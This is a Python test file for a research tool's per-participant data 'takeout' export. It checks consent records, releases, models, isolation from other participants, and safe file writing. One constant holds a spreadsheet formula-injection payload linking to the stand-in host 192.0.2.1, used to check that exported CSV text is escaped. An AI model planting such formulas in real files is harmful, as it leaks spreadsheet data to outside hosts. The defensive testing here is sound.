"""A takeout: all that a study holds of one person, in a zip that opens without Mimik."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import numpy as np
import pytest

from mimik.capture.simulation import simulate
from mimik.errors import StudyDamaged, StudyError
from mimik.frame import COLUMNS, NOT_TRACKED, Frame
from mimik.protocol import parse_protocol
from mimik.study import SessionFacts, Study
from mimik.study.bids import export_bids
from mimik.study.exchange import pack_study
from mimik.study.takeout import write_takeout

START = 1_770_000_000.0
EVIL = '=HYPERLINK("http://192.0.2.1/"&A1)'
ASKING = """
format = 1
name = "asking"
version = 1
languages = ["en", "de"]
start = "automatic"
min_frames = 10
[title]
en = "Asking"
de = "Fragen"
[texts]
fixation = { en = "X", de = "X" }
face_lost = { en = "Come back", de = "Komm" }
paused = { en = "Paused", de = "Pause" }
done = { en = "Done", de = "Fertig" }
[[trials]]
expression = "happy"
prompt = { en = "Look happy", de = "Schau froh" }
[[trials.questions]]
id = "word"
kind = "text"
text = { en = "Any words?", de = "Worte?" }
[[trials.questions]]
id = "strength"
kind = "scale"
text = { en = "How strong?", de = "Wie stark?" }
minimum = -5
maximum = 5
"""


@pytest.fixture
def study(tmp_path: Path) -> Study:
    """A person with one session, whose free texts a spreadsheet would run; and another person."""
    study = Study.create(tmp_path / "study", title="Ärger", protocol=parse_protocol(ASKING, where=""))
    for name in ("sub-AAA", "sub-ZZZ"):
        study.add_participant(name, age="31", remark=EVIL)
        study.record_consent(name, at=START, version="1", purposes=("study", "sharing"), how="screen")
        facts = SessionFacts(started=START, device=1, app="Live Link Face 1.3", rate=60, language="de")
        with study.start_session(name, facts) as writer:
            rng = np.random.default_rng(len(study.participants))
            for trial, outcome in ((1, "incomplete"), (1, "complete")):
                writer.open_trial(trial, "happy", START)
                for i in range(20):
                    values = rng.normal(size=64).astype(np.float32)
                    values[55:58] = np.nan
                    tracked = i != 3
                    frame = Frame(1, i, i / 60, START + i / 60, tracked, values if tracked else NOT_TRACKED)
                    writer.frame(trial, frame)
                writer.close_trial(trial, outcome, START + 1)
            writer.answer(1, "word", "+1 for grün", START + 1)
            writer.answer(1, "strength", "-3", START + 1)
            writer.note("@operator: came late", START + 0.5)
            writer.finish(START + 2)
    (info,) = study.sessions("sub-AAA")
    study.exclude_trial(info, 1, "-bad light", at=START + 9)
    study.record_consent("sub-AAA", at=START + 9, version="1", how="paper")  # sharing taken back
    return study


def table(file: Path, name: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(file) as archive:
        return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")))


def text_of(file: Path) -> str:
    with zipfile.ZipFile(file) as archive:
        return archive.read("README.txt").decode("utf-8-sig")


def test_everything_of_one_person_is_in_it_and_nothing_of_others(study: Study, tmp_path: Path) -> None:
    done = write_takeout(study, "sub-AAA", tmp_path / "own.zip")

    with zipfile.ZipFile(done.file) as archive:
        assert archive.testzip() is None
        assert set(archive.namelist()) == {
            "README.txt", "participant.csv", "consent.csv", "consent-text-1.txt", "uses.csv", "sessions.csv",
            "ses-01/trials.csv", "ses-01/events.csv", "ses-01/answers.csv", "ses-01/exclusions.csv",
            "ses-01/frames.csv",
        }  # fmt: skip
        assert archive.read("consent-text-1.txt").decode() == study.consent_text("1")
        assert not any(b"ZZZ" in archive.read(name) for name in archive.namelist())
    assert (done.participant, done.sessions, done.frames, done.synthetic) == ("sub-AAA", 1, 40, False)
    assert [(one["purposes"], one["how"]) for one in table(done.file, "consent.csv")] == [
        ("study sharing", "screen"),
        ("study", "paper"),
    ]
    (session,) = table(done.file, "sessions.csv")
    assert (session["started"], session["simulated"], session["app"]) == (
        "2026-02-02T02:40:00Z",
        "no",
        "Live Link Face 1.3",
    )
    assert [t["outcome"] for t in table(done.file, "ses-01/trials.csv")] == ["redone", "excluded"]


def test_when_consent_was_given_and_when_it_was_recorded_are_both_told(study: Study, tmp_path: Path) -> None:
    given = date(2025, 11, 3)
    study.record_consent("sub-AAA", at=START + 20, version="1", purposes=("study",), how="paper", given=given)
    write_takeout(study, "sub-AAA", tmp_path / "own.zip")
    told = [(one["given"], one["recorded"], one["how"]) for one in table(tmp_path / "own.zip", "consent.csv")]
    assert told == [
        ("2025-11-03", "2026-02-02T02:40:20Z", "paper"),
        ("2026-02-02T02:40:00Z", "2026-02-02T02:40:00Z", "screen"),
        ("2026-02-02T02:40:09Z", "2026-02-02T02:40:09Z", "paper"),  # said last, and so it counts
    ]


@pytest.fixture
def used(study: Study, tmp_path: Path) -> Study:
    """Released without the first person, packed with both; a model learned from each, and one from both."""
    export_bids(study, tmp_path / "bids")
    study.record_consent("sub-AAA", at=START + 30, version="1", purposes=("study", "sharing"), how="paper")
    pack_study(study, tmp_path / "a.mimikpack")
    study.record_model("a" * 64, ["sub-AAA"], at=START)
    study.record_model("b" * 64, ["sub-AAA", "sub-ZZZ"], at=START + 86400)
    study.record_model("c" * 64, ["sub-ZZZ"], at=START)
    return study


def test_it_tells_in_which_releases_and_models_ones_data_went(used: Study, tmp_path: Path) -> None:
    bids, pack = used.releases
    done = write_takeout(used, "sub-AAA", tmp_path / "own.zip")
    other = write_takeout(used, "sub-ZZZ", tmp_path / "other.zip")

    first, second, third = table(done.file, "uses.csv")
    assert first == {"at": "2026-02-02T02:40:00Z", "what": "model", "kind": "", "reference": "a" * 64}
    assert second == {"at": "2026-02-03T02:40:00Z", "what": "model", "kind": "", "reference": "b" * 64}
    assert (third["what"], third["kind"], third["reference"]) == ("release", "pack", pack.id)
    assert (done.releases, done.models) == (1, 2)
    assert {(one["what"], one["reference"]) for one in table(other.file, "uses.csv")} == {
        ("release", bids.id), ("release", pack.id), ("model", "b" * 64), ("model", "c" * 64),
    }  # fmt: skip
    assert (other.releases, other.models) == (2, 2)


def test_the_text_lists_them_in_both_languages_and_says_whom_to_ask(used: Study, tmp_path: Path) -> None:
    bids, pack = used.releases
    write_takeout(used, "sub-ZZZ", tmp_path / "own.zip")
    english, german = text_of(tmp_path / "own.zip").split("IHRE DATEN")

    made = datetime.fromtimestamp(pack.at, UTC).date()
    assert f"  2026-02-03  model that learned from your data: {'b' * 64}" in english.splitlines()
    assert f"  {made}  packed copy of the study: {pack.id}" in english.splitlines()
    assert f"data set to be given to others (bids): {bids.id}" in english
    assert "to whom each of these was given. You have a right to know" in english
    assert f"  2026-02-03  Modell, das aus Ihren Daten gelernt hat: {'b' * 64}" in german.splitlines()
    assert f"Datensatz zur Weitergabe an andere (bids): {bids.id}" in german
    assert f"gepackte Kopie der Studie: {pack.id}" in german
    assert "a" * 64 not in english + german


def test_it_says_nothing_of_others_in_a_release(used: Study, tmp_path: Path) -> None:
    write_takeout(used, "sub-AAA", tmp_path / "own.zip")
    with zipfile.ZipFile(tmp_path / "own.zip") as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    references = {used.reference(who) for who in ("sub-AAA", "sub-ZZZ")}
    assert not any(each.encode() in everything for each in {*references, "sub-ZZZ", used.releases[0].id})
    assert list(table(tmp_path / "own.zip", "uses.csv")[0]) == ["at", "what", "kind", "reference"]


def test_where_nothing_was_made_it_says_so(study: Study, tmp_path: Path) -> None:
    study.record_model("c" * 64, ["sub-ZZZ"], at=START)
    done = write_takeout(study, "sub-AAA", tmp_path / "own.zip")
    assert table(done.file, "uses.csv") == [] and (done.releases, done.models) == (0, 0)
    assert "none: no data set to be given to others, and no model" in text_of(done.file)
    assert "nichts: kein Datensatz zur Weitergabe an andere und kein Modell" in text_of(done.file)


def test_a_register_that_is_damaged_gives_no_takeout(used: Study, tmp_path: Path) -> None:
    (used.folder / "models.tsv").write_text("what\n")
    with pytest.raises(StudyDamaged, match=r"models\.tsv, line 1"):
        write_takeout(used, "sub-AAA", tmp_path / "own.zip")
    assert not (tmp_path / "own.zip").exists()


def test_every_frame_reads_back_exactly(study: Study, tmp_path: Path) -> None:
    write_takeout(study, "sub-AAA", tmp_path / "own.zip")

    (info,) = study.sessions("sub-AAA")
    stored = study.table(info)  # as Parquet holds them, attempts done again included
    read = table(tmp_path / "own.zip", "ses-01/frames.csv")
    assert list(read[0]) == stored.column_names
    for name in COLUMNS:
        given_ = np.array([row[name] or "nan" for row in read], dtype=np.float32)
        kept = stored.column(name).to_numpy().astype(np.float32)
        np.testing.assert_array_equal(given_, kept)
    assert [int(row["trial"]) for row in read] == stored.column("trial").to_pylist()
    assert [float(row["device_time"]) for row in read] == stored.column("device_time").to_pylist()
    assert {row["expression"] for row in read} == {"happy"}
    assert any(row["browDownLeft"].startswith("-") for row in read)  # numbers are not touched


def test_no_text_runs_as_a_formula_and_numbers_stay(study: Study, tmp_path: Path) -> None:
    write_takeout(study, "sub-AAA", tmp_path / "own.zip")

    (person,) = table(tmp_path / "own.zip", "participant.csv")
    assert person == {"participant_id": "sub-AAA", "age": "31", "remark": f"'{EVIL}"}
    word, strength = table(tmp_path / "own.zip", "ses-01/answers.csv")
    assert (word["answer"], word["question_text"]) == ("'+1 for grün", "Worte?")
    assert strength["answer"] == "-3"
    assert table(tmp_path / "own.zip", "ses-01/events.csv")[0]["note"] == "'@operator: came late"
    assert table(tmp_path / "own.zip", "ses-01/exclusions.csv")[0]["reason"] == "'-bad light"


def test_the_audit_trail_notes_that_a_copy_was_made_without_saying_of_whom(
    study: Study, tmp_path: Path
) -> None:
    write_takeout(study, "sub-AAA", tmp_path / "own.zip")
    last = json.loads((study.folder / "audit.jsonl").read_text().splitlines()[-1])
    assert last["what"] == "took out" and last["of"] == study.reference("sub-AAA")
    assert "sub-AAA" not in json.dumps(last)


def test_a_person_can_read_what_the_files_are_in_both_languages(study: Study, tmp_path: Path) -> None:
    write_takeout(study, "sub-AAA", tmp_path / "own.zip")
    with zipfile.ZipFile(tmp_path / "own.zip") as archive:
        text = archive.read("README.txt").decode("utf-8-sig")
        names = archive.namelist()
    english, german = text.split("IHRE DATEN")
    for half in (english, german):
        assert "Ärger" in half and "sub-AAA" in half
        for name in ("participant.csv", "consent.csv", "sessions.csv", "radian", "frames.csv"):
            assert name in half or name.capitalize() in half
        for name in names:
            assert name.rpartition("/")[2].replace("-1.txt", "-N.txt") in half or name == "README.txt"
    assert "SYNTHETIC" not in text


def test_simulated_data_is_marked(tmp_path: Path) -> None:
    protocol = parse_protocol(ASKING, where="")
    study = Study.create(tmp_path / "study", title="made up", protocol=protocol, synthetic=True)
    simulate(study, participants=1)
    (person,) = study.participants
    done = write_takeout(study, person.id, tmp_path / "own.zip")
    assert done.synthetic
    with zipfile.ZipFile(done.file) as archive:
        text = archive.read("README.txt").decode("utf-8-sig")
    assert text.startswith("SYNTHETIC: a simulated person") and "SYNTHETISCH" in text
    assert table(done.file, "sessions.csv")[0]["simulated"] == "yes"


@pytest.mark.parametrize("place", ["own.zip", "study/own.zip", "study/sub-AAA/own.zip"])
def test_nothing_is_overwritten_and_nothing_put_into_the_study(
    study: Study, tmp_path: Path, place: str
) -> None:
    (tmp_path / "own.zip").write_text("mine")
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(StudyError, match="expected"):
        write_takeout(study, "sub-AAA", tmp_path / place)
    assert sorted(tmp_path.rglob("*")) == before
    assert (tmp_path / "own.zip").read_text() == "mine"


def test_what_comes_there_meanwhile_is_not_overwritten(study: Study, tmp_path: Path) -> None:
    def put(done: float, total: float | None) -> None:
        (tmp_path / "own.zip").write_text("mine")

    with pytest.raises(StudyError, match="expected no such file"):
        write_takeout(study, "sub-AAA", tmp_path / "own.zip", on_progress=put)
    assert (tmp_path / "own.zip").read_text() == "mine"
    assert not list(tmp_path.glob(".own*"))


def test_a_person_with_an_unfinished_session_gets_all_or_nothing(study: Study, tmp_path: Path) -> None:
    study.start_session("sub-AAA", SessionFacts(started=START)).leave()
    with pytest.raises(StudyError, match="sub-AAA/ses-02: expected finished sessions") as caught:
        write_takeout(study, "sub-AAA", tmp_path / "own.zip")
    assert "mimik finish" in caught.value.hint
    assert not (tmp_path / "own.zip").exists()


def test_a_broken_session_gives_no_takeout(study: Study, tmp_path: Path) -> None:
    (study.folder / "sub-AAA" / "ses-01" / "frames.parquet").write_bytes(b"broken")
    with pytest.raises(StudyError, match="expected a Parquet file"):
        write_takeout(study, "sub-AAA", tmp_path / "own.zip")
    assert [path.name for path in tmp_path.iterdir()] == ["study"]


KILLED = """
import os, sys
from mimik.study import Study
from mimik.study.takeout import write_takeout
write_takeout(Study.open(sys.argv[1]), "sub-AAA", sys.argv[2], on_progress=lambda *_: os._exit(9))
"""


def test_a_program_that_is_killed_leaves_no_takeout(study: Study, tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-c", KILLED, study.folder, tmp_path / "own.zip"], check=False)
    assert done.returncode == 9
    assert not (tmp_path / "own.zip").exists()


def test_someone_without_sessions_or_consent_gets_what_there_is(study: Study, tmp_path: Path) -> None:
    who = study.add_participant().id
    write_takeout(study, who, tmp_path / "own.zip")
    assert table(tmp_path / "own.zip", "consent.csv") == table(tmp_path / "own.zip", "sessions.csv") == []
